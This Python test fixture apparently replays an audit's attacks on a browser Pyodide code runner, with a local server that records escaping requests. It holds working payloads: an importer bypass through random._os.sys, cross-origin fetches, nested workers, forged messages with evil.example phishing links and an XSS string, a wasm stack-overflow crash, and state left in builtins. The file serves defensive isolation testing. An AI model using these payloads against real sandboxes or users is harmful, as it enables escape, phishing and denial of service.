"""The attacks of the 2026-11-25 audit, as the programs a stranger's link could carry
(tests/browser/test_isolation.py replays them), and a server on another origin of this machine
that records what reaches it.

The storage attack and the forged messages first reach `js` past the runner's importer in one
line (REACH_JS): the importer is a courtesy, not a wall (docs/security.md)."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# The audit's bypass of the runner's importer, then the ways it tried to leave the worker.
REACH_JS = """\
import random
sys = random._os.sys
imp = sys.modules['builtins'].__import__
js = imp('js')
ffi = imp('pyodide.ffi', fromlist=['to_js'])
to_js, create_proxy = ffi.to_js, ffi.create_proxy
print('reached js:', hasattr(js, 'postMessage'))
"""
WRITE_STORAGE = (
    REACH_JS
    + """\
code = (
    "try { caches.open('engine-snapshot').then(c => c.put(location.href, new Response('x'))) }"
    " catch {} fetch('http://127.0.0.1:OTHER/from-a-nested-worker').catch(() => {})"
)
js.fetch('http://127.0.0.1:OTHER/from-the-worker').catch(create_proxy(lambda error: None))
for kind in ('blob', 'data'):
    try:
        if kind == 'blob':
            blob = js.Blob.new(to_js([code]), to_js({'type': 'text/javascript'}))
            url = js.URL.createObjectURL(blob)
        else:
            url = 'data:text/javascript,' + js.encodeURIComponent(code)
        nested = js.Worker.new(url)
        nested.addEventListener('error', create_proxy(lambda event: event.preventDefault()))
        print(kind, 'worker started')
    except Exception as error:
        print(kind, 'worker refused', str(error).split(':')[0])
forged = js.Blob.new(to_js(['not a snapshot']))
message = {'type': 'snapshot', 'snapshot': forged}
js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
print('tried everything')
"""
)


class OtherOrigin:
    """A server on another port of this machine, which records what reaches it."""

    def __init__(self) -> None:
        paths = self.paths = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


# A reply for every id the page may have used, with a DOT that once made a real link, a record
# whose id tries the same, and messages outside the protocol.
FORGE = (
    REACH_JS
    + """\
import json
link = ('digraph { a [label="Your session expired: click to log in again" '
        'URL="https://evil.example/" target=_top] }')
node = {'id': 'n0', 'label': 'x', 'shown': 'x', 'name': 'x', 'constant': False, 'op': '',
        'data': 1.0, 'data_text': '1.0000', 'grad': 0.0, 'grad_text': '0.0000',
        'grad_widest': '0.0000', 'children': [], 'leaf': True}
record = {'version': 3, 'mode': 'program', 'title': 'forged', 'output': 'n0', 'nodes': [node],
          'edges': [], 'forward': [], 'backward': [], 'grads': {'n0': 0.0}, 'accumulates': [],
          'nonfinite': [], 'layout': 'graphviz', 'layout_note': ''}
bad = dict(record, nodes=[dict(node, id='n0 [URL="https://evil.example/" target=_top]')])
convert = lambda value: to_js(value, dict_converter=js.Object.fromEntries)
for i in range(1, 80):
    for rec in (bad, record):
        graph = {'title': 'forged', 'kind': 'draw_dot', 'record': rec, 'dot': link}
        result = {'ok': True, 'language': 'python',
                  'output': '<a href="https://evil.example/">log in</a>',
                  'error': None, 'graphs': [graph], 'chosen': 0, 'dot': link, 'trace': rec}
        js.postMessage(convert({'type': 'result', 'id': i, 'result': json.dumps(result)}))
    js.postMessage(convert({'type': 'result', 'id': i, 'result': 5}))
    acted = '{"ok": true, "dot": "digraph {}"}'
    js.postMessage(convert({'type': 'acted', 'id': i, 'result': acted}))
js.postMessage('<img src=x onerror=alert(1)>')
print('forged')
"""
)

# Each attribute read calls __getattr__ again, through C: the wasm stack overflows before
# Python's recursion limit, and the interpreter is dead (the audit: Python stayed "failed").
OVERFLOW = """\
class A:
    def __getattr__(self, name):
        return self.missing
A().x
"""

# What a link's program may leave in Python for the reader's next program, and a look for it.
LEAVE = """\
import random
random._os.sys.modules['builtins'].left_by_the_link = 'patched'
print('the link ran')
"""
READ = """\
import random
print('builtins:', getattr(random._os.sys.modules['builtins'], 'left_by_the_link', 'clean'))
"""
